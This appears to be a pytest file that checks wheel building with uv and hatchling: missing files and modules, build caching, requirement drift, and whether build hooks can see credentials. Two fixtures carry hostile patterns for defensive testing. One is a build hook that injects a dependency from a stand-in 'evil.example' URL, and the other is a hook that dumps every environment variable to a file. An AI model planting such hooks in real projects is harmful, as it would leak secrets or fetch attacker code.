"""Wheels of small packages, really built with uv: what they lack, what they cost, what their build may see."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import pytest

from prime_lab_mcp.lab.base.report import Finding
from prime_lab_mcp.lab.base.settings import Settings
from prime_lab_mcp.lab.environment import package, wheel, wheel_contents
from prime_lab_mcp.lab.interpreter import InstalledVersions, Interpreter
from prime_lab_mcp.lab.state.snapshot import Snapshot, take_snapshot
from prime_lab_mcp.lab.state.workspace import EnvironmentFolder

pytestmark = pytest.mark.anyio

HATCH = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "thing"
version = "0.1.0"
[tool.hatch.build.targets.wheel]
{build}
"""
READS = """\
from pathlib import Path
DATA = Path(__file__).parent / "data"
def rows(split):
    return (DATA / f"{split}.jsonl").read_text()
"""


@pytest.fixture(scope="module")
def interpreter() -> Interpreter:
    return InstalledVersions.here().interpreter()


def snapshot(folder: Path, files: dict[str, str]) -> Snapshot:
    for path, text in files.items():
        place = folder / "environment" / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, encoding="utf-8")
    return take_snapshot(EnvironmentFolder("thing", folder / "environment", "environments/thing"), folder / "store")


def lacking(taken: Snapshot, built: wheel.UnpackedWheel) -> Sequence[Finding]:
    return list(wheel_contents.missing_from_wheel(package.read_package(taken), built))


@pytest.mark.parametrize(
    ("build", "files", "expected"),
    [
        ('packages = ["thing"]', {"thing/__init__.py": READS, "thing/data/train.jsonl": "{}"}, []),
        (
            'include = ["thing/*.py"]',
            {"thing/__init__.py": READS, "thing/data/train.jsonl": "{}"},
            [("wheel-lacks-file", "blocker", "thing/__init__.py:2")],
        ),
        (
            'include = ["thing/*.py"]',
            {"thing/__init__.py": "X = 1\n", "thing/data/notes.txt": "x"},
            [("wheel-lacks-file", "info", None)],
        ),
        (
            'include = ["other/*.py"]',
            {"thing/__init__.py": "X = 1\n", "other/__init__.py": "Y = 1\n"},
            [("wheel-lacks-module", "blocker", "pyproject.toml")],
        ),
        (
            'include = ["thing.py"]',
            {"thing.py": "import shapes\n", "shapes.py": "X = 1\n"},
            [("wheel-lacks-file", "blocker", "thing.py:1")],
        ),
        (
            'include = ["thing.py", "data"]',
            {"thing.py": READS, "data/train.jsonl": "{}"},
            [("wheel-top-level", "warning", "pyproject.toml")],
        ),
        ('packages = ["src/thing"]', {"src/thing/__init__.py": READS, "src/thing/data/train.jsonl": "{}"}, []),
        ('packages = ["thing"]', {"thing/__init__.py": "X = 1\n", "tests/test_thing.py": "import thing\n"}, []),
    ],
)
async def test_a_wheel_is_compared_with_what_the_code_uses(
    settings: Settings,
    interpreter: Interpreter,
    tmp_path: Path,
    build: str,
    files: dict[str, str],
    expected: list[object],
) -> None:
    taken = snapshot(tmp_path, {"pyproject.toml": HATCH.format(build=build), "README.md": "x", **files})
    built = await wheel.build_wheel(settings, taken, interpreter)
    assert [(f.code, f.severity, f.where) for f in lacking(taken, built)] == expected


async def test_an_edit_costs_no_new_build_and_a_new_file_does(
    settings: Settings, interpreter: Interpreter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    builds: list[Path] = []
    real = wheel._run_build

    async def counted(source: Path, scratch: Path, python: Interpreter) -> None:
        builds.append(source)
        await real(source, scratch, python)

    monkeypatch.setattr(wheel, "_run_build", counted)
    files = {"pyproject.toml": HATCH.format(build='packages = ["thing"]'), "thing/__init__.py": "X = 1\n"}
    await wheel.build_wheel(settings, snapshot(tmp_path, files), interpreter)
    edited = await wheel.build_wheel(settings, snapshot(tmp_path, {"thing/__init__.py": "X = 2\n"}), interpreter)
    assert (len(builds), (edited.tree / "thing/__init__.py").read_text(encoding="utf-8")) == (1, "X = 2\n")
    added = await wheel.build_wheel(settings, snapshot(tmp_path, {"thing/more.py": "Y = 1\n"}), interpreter)
    assert (len(builds), "thing/more.py" in added.files) == (2, True)
    assert not list((tmp_path / "environment").glob("*.egg-info"))


REQUIRING = """\
from hatchling.builders.hooks.plugin.interface import BuildHookInterface
class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        build_data["dependencies"] += {added}
"""


async def test_a_wheel_that_requires_more_than_the_checked_one_is_not_pushed(
    settings: Settings, interpreter: Interpreter, tmp_path: Path
) -> None:
    hooked = HATCH.format(build='packages = ["thing"]') + '\n[tool.hatch.build.hooks.custom]\npath = "made.py"\n'
    files = {"pyproject.toml": hooked, "thing/__init__.py": "X = 1\n", "made.py": REQUIRING.format(added=[])}
    checked = snapshot(tmp_path, files)
    await wheel.build_wheel_file(settings, checked, interpreter, tmp_path / "sent")
    edited = snapshot(tmp_path, {"made.py": REQUIRING.format(added=["evil-package @ https://evil.example/e.whl"])})
    with pytest.raises(wheel.WheelFailed, match="differ in their requirements"):
        await wheel.build_wheel_file(settings, edited, interpreter, tmp_path / "other")


HOOK = """\
import json, os
from hatchling.builders.hooks.plugin.interface import BuildHookInterface
class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
        with open(os.path.join(self.root, "thing", "seen.json"), "w") as sink:
            json.dump(dict(os.environ), sink)
"""


async def test_what_the_build_runs_sees_no_credential(
    settings: Settings, interpreter: Interpreter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("PRIME_API_KEY", "UV_PUBLISH_TOKEN", "UV_INDEX_OWN_PASSWORD", "HF_TOKEN"):
        monkeypatch.setenv(name, "a-credential")
    pyproject = HATCH.format(build='packages = ["thing"]') + "[tool.hatch.build.targets.wheel.hooks.custom]\n"
    taken = snapshot(tmp_path, {"pyproject.toml": pyproject, "thing/__init__.py": "", "hatch_build.py": HOOK})
    built = await wheel.build_wheel(settings, taken, interpreter)
    seen = (built.tree / "thing" / "seen.json").read_text(encoding="utf-8")
    assert "a-credential" not in seen
    assert "PATH" in seen


async def test_a_build_that_fails_says_what_was_said(
    settings: Settings, interpreter: Interpreter, tmp_path: Path
) -> None:
    pyproject = HATCH.format(build='packages = ["thing"]').replace('version = "0.1.0"', 'version = "one"')
    with pytest.raises(wheel.WheelFailed, match="one"):
        await wheel.build_wheel(
            settings, snapshot(tmp_path, {"pyproject.toml": pyproject, "thing/__init__.py": ""}), interpreter
        )


async def test_a_backend_that_cannot_be_fetched_leaves_the_wheel_unchecked(
    settings: Settings, interpreter: Interpreter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "empty-cache"))
    monkeypatch.setenv("UV_DEFAULT_INDEX", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    taken = snapshot(tmp_path, {"pyproject.toml": HATCH.format(build='packages = ["thing"]'), "thing/__init__.py": ""})
    with pytest.raises(wheel.WheelUnchecked, match="could not be fetched"):
        await wheel.build_wheel(settings, taken, interpreter)
